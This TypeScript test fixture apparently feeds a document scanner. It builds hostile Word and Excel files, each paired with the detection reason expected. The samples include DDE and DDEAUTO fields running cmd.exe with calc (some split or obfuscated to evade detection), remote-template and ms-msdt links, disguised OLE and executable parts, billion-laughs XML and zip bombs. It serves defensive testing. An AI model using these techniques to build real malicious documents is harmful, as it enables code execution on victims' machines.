import type { Hostile } from './hostile.ts'
import { docx, xlsx, type ZipPart } from './zip.ts'

const carries = /carries another file/
const fetches = /fetches something/
const incomplete = /incomplete or damaged/
const runs = /script or macro/
const unpacks = /unpacks to far more/

const letter = (says: string, more: readonly ZipPart[], why: RegExp): Hostile => ({
  says: `Word: ${says}`,
  name: 'letter.docx',
  content: docx(more),
  why,
})
const table = (says: string, more: readonly ZipPart[], why: RegExp): Hostile => ({
  says: `Excel: ${says}`,
  name: 'table.xlsx',
  content: xlsx(more),
  why,
})

const header = (inside: string): ZipPart[] => [
  { name: 'word/header1.xml', content: `<w:hdr xmlns:w="w" xmlns:v="v"><w:p>${inside}</w:p></w:hdr>` },
]
const run = (inside: string): string => `<w:r>${inside}</w:r>`
const character = (type: string): string => run(`<w:fldChar w:fldCharType="${type}"/>`)
const instruction = (text: string): string => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`)
const field = (...inside: string[]): ZipPart[] =>
  header(
    `${character('begin')}${inside.join('')}${character('separate')}${run('<w:t>1</w:t>')}${character('end')}`,
  )

const relates = (type: string, target: string, more = '', part = 'document'): ZipPart[] => [
  {
    name: `word/_rels/${part}.xml.rels`,
    content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${more}/></Relationships>`,
  },
]
const external = 'TargetMode="External"'
const compound = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)])

const sheet = (inside: string): ZipPart[] => [
  { name: 'xl/worksheets/sheet1.xml', content: `<worksheet><sheetData>${inside}</sheetData></worksheet>` },
]
const formula = (text: string): ZipPart[] => sheet(`<row><c><f>${text}</f></c></row>`)
const laughs = `<!DOCTYPE a [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, n) => `<!ENTITY a${n} "${`&a${n === 0 ? '' : n - 1};`.repeat(10)}">`).join('')}]><a>&a8;</a>`

export const hostileOffice: readonly (() => Hostile)[] = [
  () => letter('a link to another program', field(instruction(' DDE cmd "/c calc" ')), fetches),
  () =>
    letter(
      'a link to another program that starts by itself',
      field(instruction(' DDEAUTO c:\\\\cmd.exe "/k calc" ')),
      fetches,
    ),
  () =>
    letter(
      'DDEAUTO cut into runs',
      field(instruction('DD'), instruction('EA'), instruction('UTO c:\\\\cmd.exe')),
      fetches,
    ),
  () =>
    letter(
      'DDEAUTO partly as plain text',
      field(instruction('DDE'), run('<w:t>AUTO c:\\\\cmd.exe</w:t>')),
      fetches,
    ),
  () =>
    letter(
      'DDEAUTO in small letters and numbers',
      field(instruction(' dd&#101;auto c:\\\\cmd.exe')),
      fetches,
    ),
  () =>
    letter('DDEAUTO as a simple field', header('<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe "/>'), fetches),
  () =>
    letter(
      'DDEAUTO under another prefix',
      [
        {
          name: 'word/footer1.xml',
          content: '<x:ftr xmlns:x="w"><x:fldSimple x:instr="DDEAUTO cmd"/></x:ftr>',
        },
      ],
      fetches,
    ),
  () =>
    letter(
      'DDEAUTO spelt by a field within',
      field(character('begin'), instruction('QUOTE 68 68 69'), character('end'), instruction('AUTO cmd')),
      fetches,
    ),
  () =>
    letter(
      'DDEAUTO in a field that is shown',
      header(
        `${character('begin')}${instruction('PAGE')}${character('separate')}${character('begin')}${instruction('DDEAUTO cmd')}${character('end')}${character('end')}`,
      ),
      fetches,
    ),
  () =>
    letter(
      'DDEAUTO in a field without an end',
      header(`${character('begin')}${instruction('DDEAUTO cmd')}`),
      fetches,
    ),
  () =>
    letter(
      'DDEAUTO that was deleted',
      header(
        `${character('begin')}${run('<w:delInstrText>DDEAUTO cmd</w:delInstrText>')}${character('end')}`,
      ),
      fetches,
    ),
  () =>
    letter(
      'a picture from elsewhere by a field',
      field(instruction(' INCLUDEPICTURE "http://example.org/x.png" \\d ')),
      fetches,
    ),
  () => letter('a text from elsewhere', field(instruction(' INCLUDETEXT "//example.org/x.docx" ')), fetches),
  () => letter('an import', field(instruction(' IMPORT x.png ')), fetches),
  () => letter('a link to a table', field(instruction(' LINK Excel.Sheet.8 "x.xls" ')), fetches),
  () => letter('a question to a database', field(instruction(' DATABASE \\d "x.mdb" ')), fetches),
  () => letter('a button that starts a macro', field(instruction(' MACROBUTTON AutoOpen click ')), fetches),
  () => letter('a picture from elsewhere', relates('image', 'http://example.org/x.png', external), fetches),
  () =>
    letter(
      'a picture from elsewhere in an old drawing',
      header('<w:pict><v:shape><v:imagedata src="http://example.org/x.png"/></v:shape></w:pict>'),
      fetches,
    ),
  () =>
    letter(
      'a template from elsewhere',
      relates('attachedTemplate', 'http://example.org/x.dotm', external, 'settings'),
      fetches,
    ),
  () =>
    letter(
      'a template from elsewhere that says it is inside',
      relates('image', 'http://example.org/x.dotm'),
      fetches,
    ),
  () =>
    letter(
      'a frame from elsewhere',
      relates('frame', 'http://example.org/', external, 'webSettings'),
      fetches,
    ),
  () =>
    letter(
      'an object from elsewhere',
      relates('oleObject', 'mhtml:http://example.org/x!x', external),
      carries,
    ),
  () =>
    letter(
      'a link that starts a program',
      relates('hyperlink', 'ms-msdt:/id PCWDiagnostic', external),
      fetches,
    ),
  () => letter('a link that is a script', relates('hyperlink', 'javascript:alert(1)', external), fetches),
  () => letter('a chunk of another format', relates('aFChunk', 'media/image1.png'), carries),
  () =>
    letter(
      'a chunk without its relationship',
      [{ name: 'word/document2.xml', content: '<w:altChunk xmlns:w="w"/>' }],
      fetches,
    ),
  () => letter('a part of another document', relates('subDocument', 'x.docx', external), carries),
  () => letter('an object named picture', [{ name: 'word/media/image1.png', content: compound }], carries),
  () =>
    letter(
      'an object related as one and named picture',
      [...relates('oleObject', 'media/image1.png'), { name: 'word/media/image1.png', content: compound }],
      carries,
    ),
  () =>
    letter('a program named picture', [{ name: 'word/media/image1.png', content: 'MZ program' }], carries),
  () =>
    letter(
      'a web page named picture',
      [{ name: 'word/media/image1.png', content: '<html><script>1</script></html>' }],
      carries,
    ),
  () =>
    letter(
      'an object named settings of a printer',
      [{ name: 'word/printerSettings1.bin', content: compound }],
      carries,
    ),
  () => letter('a web extension', relates('webextension', 'webextension1.xml'), fetches),
  () => ({
    says: 'Word: a macro that is named and not there',
    name: 'letter.docx',
    content: docx(
      [],
      undefined,
      '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    ),
    why: runs,
  }),
  () => letter('macros by their name', [{ name: 'word/vbaProject.bin', content: 'x' }], runs),
  () => letter('a billion laughs', [{ name: 'word/styles.xml', content: laughs }], incomplete),
  () =>
    letter(
      'XML a hundred thousand deep',
      [{ name: 'word/styles.xml', content: '<a>'.repeat(100_000) }],
      incomplete,
    ),
  () => letter('fields a thousand deep', header(character('begin').repeat(1_000)), incomplete),
  () =>
    letter(
      'a million attributes',
      [
        {
          name: 'word/styles.xml',
          content: `<a ${Array.from({ length: 300_000 }, (_, n) => `a${n}="" `).join('')}`,
        },
      ],
      incomplete,
    ),
  () =>
    letter(
      'XML in another alphabet',
      [{ name: 'word/styles.xml', content: Buffer.from('\ufeff<a/>', 'utf16le') }],
      incomplete,
    ),
  () =>
    letter(
      'XML that names another alphabet',
      [{ name: 'word/styles.xml', content: '<?xml version="1.0" encoding="UTF-7"?><a/>' }],
      incomplete,
    ),
  () => letter('a zip bomb', [{ name: 'word/styles.xml', content: Buffer.alloc(120_000_000, 32) }], unpacks),
  () =>
    letter(
      'a zip bomb that lies',
      [{ name: 'word/media/a.png', content: Buffer.alloc(120_000_000), claimedSize: 10 }],
      incomplete,
    ),
  () =>
    letter(
      'a name in the directory and another at the part',
      [{ name: 'word/styles.xml', content: '<a/>', nameAtPart: 'word/xtyles.xml' }],
      /hides a second file/,
    ),
  () => ({
    says: 'Word: another file before it',
    name: 'letter.docx',
    content: Buffer.concat([Buffer.from('PK\u0003\u0004'), docx()]),
    why: /hides|incomplete/,
  }),

  () => table('a link to another program', formula("cmd|'/c calc'!A0"), fetches),
  () =>
    table(
      'a link to another program under a name',
      [
        {
          name: 'xl/workbook2.xml',
          content:
            '<workbook><definedNames><definedName name="a">cmd|\'/c calc\'!A0</definedName></definedNames></workbook>',
        },
      ],
      fetches,
    ),
  () =>
    table('a question to an address', formula('_xlfn.WEBSERVICE(&quot;http://example.org&quot;)'), fetches),
  () => table('a picture from an address', formula('_xlfn.IMAGE(A1)'), fetches),
  () => table('a question to a program', formula('RTD(&quot;x&quot;,,&quot;y&quot;)'), fetches),
  () => table('a call of the system', formula('1+CALL(&quot;urlmon&quot;)'), fetches),
  () => table('a cell of a book elsewhere', formula("'http://example.org/[x.xlsx]S'!A1"), fetches),
  () => table('a condition that asks', sheet('<cfRule><formula>WEBSERVICE(A1)</formula></cfRule>'), fetches),
  () =>
    table(
      'a link to another book',
      [
        {
          name: 'xl/externalLinks/externalLink1.xml',
          content: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        },
      ],
      fetches,
    ),
  () =>
    table(
      'a web query that refreshes',
      [
        {
          name: 'xl/connections.xml',
          content:
            '<connections><connection refreshOnLoad="1"><webPr url="http://example.org"/></connection></connections>',
        },
      ],
      fetches,
    ),
  () =>
    table(
      'a query of a database',
      [
        {
          name: 'xl/connections.xml',
          content: '<connections><connection><dbPr connection="x" command="y"/></connection></connections>',
        },
      ],
      fetches,
    ),
  () => table('connections by their relationship', relates('connections', 'connections.xml'), fetches),
  () => table('an object', [{ name: 'xl/embeddings/oleObject1.bin', content: compound }], carries),
  () => table('an old macro sheet', [{ name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }], runs),
]
